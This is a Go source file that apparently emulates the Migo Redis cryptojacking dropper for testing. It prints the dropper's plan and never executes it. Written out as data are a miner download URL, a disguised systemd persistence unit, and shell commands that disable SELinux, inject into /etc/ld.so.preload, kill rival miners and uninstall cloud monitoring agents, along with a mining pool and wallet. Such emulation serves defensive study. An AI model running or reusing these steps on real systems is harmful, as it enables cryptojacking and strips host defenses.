// Command r3m_migo is an inert look-alike of a Go Redis-campaign dropper
// in the manner of Migo (Cado Security, 2024): it carries the dropper's
// plan as data (the miner release it would fetch, the systemd unit and
// timer it would write, the system-weakening steps it would run) and
// prints it. It never downloads, writes or executes anything, never
// hashes, and refuses every pool that is not a loopback literal before
// any name is resolved or any socket is opened.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"os"
	"strings"
	"time"
)

const release = "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"

var weaken = []string{
	"setenforce 0",
	"sed -i s/SELINUX=enforcing/SELINUX=disabled/ /etc/selinux/config",
	"sysctl -w vm.nr_hugepages=$(nproc)",
	"echo /usr/local/lib/libsystemd-journal.so >> /etc/ld.so.preload",
	"iptables -A OUTPUT -p tcp --dport 6379 -j ACCEPT",
	"chattr -ia /etc/ld.so.preload /etc/cron.d/*",
	"pkill -f kdevtmpfsi; pkill -f kinsing; pkill -f xmr-stak; pkill -f sysupdate",
	"systemctl stop aliyun.service; /usr/local/qcloud/stargate/admin/uninstall.sh",
}

const unit = `[Unit]
Description=System kernel daemon
[Service]
ExecStart=/tmp/.migo_worker/.migo_worker --config=/tmp/.migo_worker/.migo_json
Restart=always
[Install]
WantedBy=multi-user.target
`

type config struct {
	Pools []struct {
		URL  string `json:"url"`
		User string `json:"user"`
		Pass string `json:"pass"`
		TLS  bool   `json:"tls"`
	} `json:"pools"`
}

const builtin = `{"autosave":false,"cpu":{"enabled":true,"huge-pages":true,"max-threads-hint":75},
"donate-level":0,"pools":[
{"url":"xmr.pool.gntl.co.uk:20009","user":"4BuPipkkLTP9cuzqiYeT56BsP7J7QFNaba73489WXqd2Um6xQimiiPWHDvCGHHPgT5pJ5UnTD63u2Ak9TEaQkf3A6DSjPCm","pass":"migo","tls":true},
{"url":"198.51.100.23:443","user":"4BuPipkkLTP9cuzqiYeT56BsP7J7QFNaba73489WXqd2Um6xQimiiPWHDvCGHHPgT5pJ5UnTD63u2Ak9TEaQkf3A6DSjPCm","pass":"migo","tls":true}]}`

func loopback(host string) bool {
	if host == "localhost" {
		return true
	}
	ip := net.ParseIP(host)
	return ip != nil && ip.IsLoopback()
}

func main() {
	pool := flag.String("pool", "", "pool host:port (overrides the built-in list)")
	user := flag.String("user", "", "wallet")
	flag.Parse()
	fmt.Println("[migo] would fetch", release)
	fmt.Print("[migo] would write /etc/systemd/system/system-kernel.service:\n" + unit + "\n")
	fmt.Println("[migo] would write /etc/systemd/system/system-kernel.timer (OnUnitActiveSec=5s)")
	for _, s := range weaken {
		fmt.Println("[migo] would run:", s)
	}
	var c config
	if err := json.Unmarshal([]byte(builtin), &c); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	urls := []string{}
	for _, p := range c.Pools {
		urls = append(urls, p.URL)
	}
	if *pool != "" {
		urls = []string{*pool}
	}
	login := c.Pools[0].User
	if *user != "" {
		login = *user
	}
	for _, u := range urls {
		host, _, err := net.SplitHostPort(strings.TrimPrefix(strings.TrimPrefix(u, "stratum+tcp://"), "stratum+ssl://"))
		if err != nil || !loopback(host) {
			fmt.Fprintf(os.Stderr, "[migo] refusing %s: this stand-in only talks to loopback\n", u)
			continue
		}
		conn, err := net.DialTimeout("tcp", u, 3*time.Second)
		if err != nil {
			continue
		}
		fmt.Fprintf(conn, `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":%q,"pass":"x","agent":"XMRig/6.21.0"}}`+"\n", login)
		conn.SetReadDeadline(time.Now().Add(3 * time.Second))
		if line, err := bufio.NewReader(conn).ReadString('\n'); err == nil {
			fmt.Print("[migo] reply: ", line)
		}
		conn.Close()
	}
}
